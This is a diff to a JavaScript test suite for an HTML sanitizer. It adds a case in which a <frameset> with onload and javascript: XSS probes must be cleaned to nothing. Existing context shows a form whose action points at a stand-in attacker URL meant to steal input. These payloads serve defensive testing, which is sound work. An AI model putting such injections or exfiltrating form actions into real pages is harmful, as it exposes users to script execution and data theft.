@@ -71,6 +71,11 @@ describe('the markup door removes', () => {
     expect(await cleaned(html)).toBe(expected);
   });
 
+  it('a <frameset>, which leaves no body to clean, as nothing (not a throw that loses the next fragments)', async () => {
+    expect(await cleaned('<frameset onload=alert(1)><frame src="javascript:alert(2)"></frameset>')).toBe('');
+    expect(await cleaned('<div id="31"><frameset onload=alert(31)>')).toBe('');
+  });
+
   it('a named form whose action points at another site loses that action', async () => {
     expect(await cleaned('<form class="woocommerce-cart-form" action="https://evil.example/steal"><input name="q"></form>', ['woocommerce-cart-form'])).toBe(
       '<form class="woocommerce-cart-form"><input name="q"></form>',
